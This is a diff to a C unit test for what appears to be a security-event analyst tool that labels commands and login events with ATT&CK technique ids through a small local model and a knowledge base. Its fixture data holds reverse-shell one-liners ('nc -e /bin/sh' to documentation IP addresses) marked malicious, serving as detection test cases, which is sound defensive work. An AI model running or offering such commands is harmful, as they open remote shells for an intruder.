@@ -489,7 +489,9 @@ static void test_techniques_from_retrieval(void **st) {
     fputs("{\"cmd\": \"nc -e /bin/sh 203.0.113.4 9001\", \"label\": \"malicious\", \"technique\": \"T1059.004\", \"why\": \"shell\"}\n"
           "{\"cmd\": \"nc -e /bin/bash 203.0.113.9 4444\", \"label\": \"malicious\", \"technique\": \"T1562.001\", \"why\": \"old id\"}\n"
           "{\"cmd\": \"nc -zv 203.0.113.4 22\", \"label\": \"benign\", \"technique\": \"T1046\", \"why\": \"benign with an id\"}\n"
-          "{\"cmd\": \"ls -la /srv/www\", \"label\": \"benign\", \"technique\": null, \"why\": \"listing\"}\n", f);
+          "{\"cmd\": \"ls -la /srv/www\", \"label\": \"benign\", \"technique\": null, \"why\": \"listing\"}\n"
+          "{\"cmd\": \"sshd -o PasswordAuthentication=yes failure password root\", \"label\": \"malicious\", "
+          "\"technique\": \"T1556\", \"why\": \"words an auth query shares\"}\n", f);
     fclose(f);
     analyst_opts o = {.data_dir = ".", .prompt_dir = dir, .kb_path = kb, .model_name = "SmolLM2-135M-Instruct.Q4_1.gguf",
                       .no_rules = true, .full = true, .no_cache = true};
@@ -509,6 +511,17 @@ static void test_techniques_from_retrieval(void **st) {
     }
     const char *sum = json_string_value(json_object_get(v, "summary"));
     assert_true(sum && *sum && !strstr(sum, "Judged"));   /* generated, not the label path's line */
+    json_decref(v);
+    json_decref(ev);
+    /* an auth event: its query ("sshd failure password ...") meets the
+     * base by its words only, so the vote may count but no id is taken */
+    static const char auth[] = "{\"v\":1,\"id\":\"a1\",\"kind\":\"auth\",\"time\":\"2026-12-08T01:02:03Z\",\"auth\":{\"service\":\"sshd\","
+                               "\"result\":\"failure\",\"method\":\"password\",\"user\":\"root\"}}";
+    ev = event_parse(auth, sizeof auth - 1, &err);
+    assert_non_null(ev);
+    assert_int_equal(analyst_judge(a, x.m, x.s, ev, &v), 0);
+    assert_string_equal(json_string_value(json_object_get(v, "verdict")), "malicious");
+    assert_int_equal(json_array_size(json_object_get(v, "techniques")), 0);
     json_decref(v);
     json_decref(ev);
     ev = cmd_event("ls -la /srv/www/html", 2);
